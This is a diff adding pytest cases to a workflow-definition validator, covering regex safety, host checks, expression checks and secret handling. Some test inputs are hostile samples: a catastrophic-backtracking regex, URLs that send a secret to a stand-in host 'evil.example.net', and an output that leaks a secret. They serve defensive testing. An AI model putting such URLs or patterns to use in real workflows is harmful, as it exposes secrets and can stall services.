@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import http.server
 import threading
+import time
 from typing import Any
 
 import pytest
@@ -302,3 +303,65 @@ def test_validation_never_fetches_remote_schema_refs() -> None:
         server.shutdown()
         server.server_close()
         thread.join(timeout=5)
+
+
+def test_schema_patterns_run_in_linear_time_and_lookaround_is_refused() -> None:
+    # Given an inputs pattern that backtracks exponentially with Python's re, and a hostile fixed input
+    hostile = minimal_flow(
+        inputs={"type": "object", "properties": {"s": {"type": "string", "pattern": "(a+)+$"}}},
+        triggers=[{"type": "cron", "cron": "0 9 * * *", "input": {"s": "a" * 5000 + "!"}}],
+    )
+    started = time.perf_counter()
+    assert codes(hostile) == ["trigger.input_invalid"]  # it does not match, and RE2 says so at once
+    assert time.perf_counter() - started < 2
+    lookahead = minimal_flow(inputs={"type": "object", "properties": {"s": {"type": "string", "pattern": "(?=a)b"}}})
+    (issue,) = check_flow(to_text(lookahead)).errors
+    assert issue.code == "inputs.invalid_schema" and "linear time" in issue.message
+    assert issue.dotted_path == "inputs.properties.s.pattern"
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://evil.example.net?key={{ secrets.k }}", ["perm.net_missing"]),  # expression only in the query
+        ("https://u:{{ secrets.k }}@evil.example.net/x", ["perm.net_missing"]),  # ... or in the credentials
+        ("//evil.example.net/x", ["node.with_invalid"]),
+        ("https:\\\\evil.example.net/x", ["node.with_invalid"]),
+        ("https://x.example.com:99999/a", ["node.with_invalid"]),
+        ("{{ inputs.url }}", []),  # known only at run time, checked when it resolves
+        ("https://{{ inputs.host }}/x", []),
+    ],
+)
+def test_literal_hosts_are_found_wherever_the_expressions_are(url: str, expected: list[str]) -> None:
+    flow = minimal_flow(
+        secrets=["k"],
+        inputs={"type": "object", "properties": {"url": {"type": "string"}, "host": {"type": "string"}}},
+        nodes=[node("a", "http.request", **{"with": {"url": url, "headers": {"X": "{{ secrets.k }}"}}})],
+    )
+    assert codes(flow) == expected
+
+
+def test_expressions_in_a_literal_items_list_are_checked() -> None:
+    loop = {"id": "l", "type": "foreach", "items": ["{{ nodes.zzz.output }}", "{{ item. }}"], "do": [node("x")]}
+    assert sorted(codes(minimal_flow(nodes=[loop]))) == ["expr.syntax", "ref.unknown_node"]
+
+
+@pytest.mark.parametrize(
+    ("change", "code"),
+    [
+        ({"nodes": [node("fail")]}, "node.reserved_id"),
+        ({"outputs": {"leak": "{{ secrets.k }}"}, "secrets": ["k"]}, "ref.secret_in_outputs"),
+        ({"nodes": [node("a", timeout=0)]}, "schema.invalid_value"),
+        ({"triggers": [{"type": "cron", "cron": "0 0 31 2 *"}]}, "trigger.cron_never_fires"),
+        ({"triggers": [{"type": "cron", "cron": "0 9 * * *", "timezone": "localtime"}]}, "trigger.timezone_invalid"),
+        ({"nodes": [node("a", permissions={"net": ["x.example.com:99999"]})]}, "schema.invalid_value"),
+    ],
+)
+def test_more_mistakes_found_in_review(change: dict[str, Any], code: str) -> None:
+    assert code in codes(minimal_flow(**change))
+
+
+def test_a_node_reading_itself_gets_a_hint_that_says_so() -> None:
+    flow = minimal_flow(nodes=[node("a", **{"with": {"message": "{{ nodes.a.output }}"}})])
+    (issue,) = check_flow(to_text(flow)).errors
+    assert issue.code == "ref.not_ancestor" and "its own output" in issue.hint
